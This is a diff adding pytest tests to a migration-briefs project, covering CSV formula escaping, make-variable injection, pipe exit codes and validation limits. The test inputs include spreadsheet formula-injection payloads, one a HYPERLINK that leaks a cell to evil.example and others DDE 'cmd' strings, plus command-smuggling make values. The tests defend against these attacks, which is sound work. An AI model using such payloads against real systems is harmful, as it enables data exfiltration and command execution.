@@ -7,6 +7,7 @@ from __future__ import annotations
 import os
 import shutil
 import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -496,3 +497,109 @@ def test_charts_draw_chinese_in_the_bundled_font_not_as_boxes(caplog):
     used = fontManager._find_fonts_by_props(FontProperties(family=style["font.family"]))
     assert [Path(p).name for p in used] == ["DejaVuSans.ttf", "NotoSansSC-Regular.otf"]
     assert {Path(p).parent for p in used} == {path.parent for _, path in fonts.faces()}
+
+
+# --- CSV cells a spreadsheet would run ---------------------------------------------------------
+
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
+                                     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+def test_csv_cells_that_start_a_formula_are_written_as_text(write_contribution, payload):
+    import csv
+    import io
+
+    from migration_briefs import load
+    from migration_briefs.briefs import overview_brief
+    escaped = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
+    root = write_contribution(VALID_CONTRIBUTION.replace("title: Chaired the Global Migration Group",
+                                                         f'title: "{escaped}"')
+                              .replace("summary: UN Women chaired the inter-agency group in 2016.",
+                                       f'summary: "{escaped}"'))
+    tables = {t["name"]: t["csv"] for t in overview_brief(2016, "un-women", load(root)).data_tables()}
+    rows = list(csv.DictReader(io.StringIO(tables["items"], newline="")))
+    assert rows[0]["title"] == rows[0]["summary"] == "'" + payload.strip()  # the model trims text fields
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for name in tables
+               for row in csv.reader(io.StringIO(tables[name], newline="")) for cell in row)
+
+
+@pytest.mark.parametrize("value, written", [("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-3", "'-3"),
+                                            ("Plain text", "Plain text"), ("a=b", "a=b"), (2016, 2016)])
+def test_the_spreadsheet_rule_covers_every_formula_start(value, written):
+    from migration_briefs.briefs import spreadsheet_safe
+    assert spreadsheet_safe(value) == written
+
+
+# --- exit codes through pipes; make settings that are not settings ------------------------------
+
+@pytest.mark.parametrize("bad", [False, True])
+def test_validate_piped_into_a_closed_reader_keeps_its_exit_code(write_contribution, bad):
+    root = write_contribution(VALID_CONTRIBUTION.replace("status: done", "status: finished") if bad
+                              else VALID_CONTRIBUTION)
+    read, write = os.pipe()
+    os.close(read)
+    try:
+        result = subprocess.run([sys.executable, "-m", "migration_briefs.cli", "validate"], stdout=write,
+                                stderr=subprocess.PIPE, text=True, timeout=120,
+                                env={**os.environ, "MIGRATION_BRIEFS_ROOT": str(root)})
+    finally:
+        os.close(write)
+    assert result.returncode == (1 if bad else 0), result.stderr
+    assert "Traceback" not in result.stderr
+
+
+@pytest.mark.parametrize("variable", ["FILTERS", "SETTINGS", "quoted", "option", "as_written", "BRIEFS"])
+@pytest.mark.parametrize("value", [f"--goal 5; touch {MARKER} #", f"$(shell touch {MARKER})"])
+def test_make_never_takes_what_its_recipes_are_made_of_from_the_command_line(scratch_make, variable, value):
+    result = make(scratch_make, "briefs", "GOAL=5", f"{variable}={value}")
+    assert not (scratch_make / MARKER).exists()
+    assert result.returncode == 0, result.stderr
+    arguments = (scratch_make / "arguments").read_text().splitlines()
+    assert arguments[:3] == ["build", "--goal", "5"]
+
+
+def test_make_passes_a_hostile_cell_timeout_as_one_argument(scratch_make):
+    result = make(scratch_make, "html", f"CELL_TIMEOUT={HOSTILE}")
+    assert result.returncode == 0 and not (scratch_make / MARKER).exists()
+    arguments = (scratch_make / "arguments").read_text().splitlines()
+    assert arguments[arguments.index("--cell-timeout") + 1] == HOSTILE
+
+
+def test_an_absolute_source_text_inside_data_sources_is_the_same_file_everywhere(write_contribution, project):
+    from migration_briefs.coverage import citations_of_source, coverage
+    absolute = str((project / "data" / SOURCE).resolve())
+    root = with_source_text(write_contribution, absolute)
+    assert load(root).sources  # the loader accepts it
+    report = coverage(root)
+    assert report.orphans == [] and not any(c.problem for c in report.contributions)
+    assert citations_of_source(SOURCE, root) == citations_of_source(absolute, root) != {}
+
+
+@pytest.mark.parametrize("field, size", [("summary", 5 * 2**20), ("title", 200), ("summary", 20_010)])
+def test_text_fields_have_a_length_limit_and_the_problem_is_short(write_contribution, field, size):
+    old = {"summary": "summary: UN Women chaired the inter-agency group in 2016.",
+           "title": "title: Chaired the Global Migration Group"}[field]
+    problem = only_problem(write_contribution(VALID_CONTRIBUTION.replace(old, f"{field}: {'word ' * (size // 5)}")))
+    assert problem.field == f"items[0].{field}" and "at most" in problem.message
+    assert len(str(problem)) < 400
+
+
+def test_validate_parses_each_contribution_once(write_contribution, project_paths, monkeypatch, capsys):
+    from migration_briefs import yaml_source
+    write_contribution()
+    parsed = []
+    real = yaml_source._parse_yaml
+    monkeypatch.setattr(yaml_source, "_PARSED", {})
+    monkeypatch.setattr(yaml_source, "_parse_yaml", lambda path, root: parsed.append(path.name) or real(path, root))
+    assert main(["validate"]) == 0
+    assert parsed.count("2017.yaml") == 1, parsed
+    contribution = project_paths / "data" / "contributions" / "un-women" / "2017.yaml"
+    contribution.write_text(contribution.read_text().replace("status: done", "status: finished"))
+    assert main(["validate"]) == 1  # an edited file is parsed again
+    assert parsed.count("2017.yaml") == 2
+
+
+def test_a_source_text_no_contribution_cites_yet_is_validated_too(write_contribution, project):
+    root = write_contribution()
+    (project / "data" / "sources" / "new-paper.yaml").write_text(
+        "title: A paper\ntitle: Imported twice\norigin: Somewhere\nparagraphs: []\n", encoding="utf-8")
+    problem = only_problem(root)
+    assert problem.file == "data/sources/new-paper.yaml" and problem.line == 2
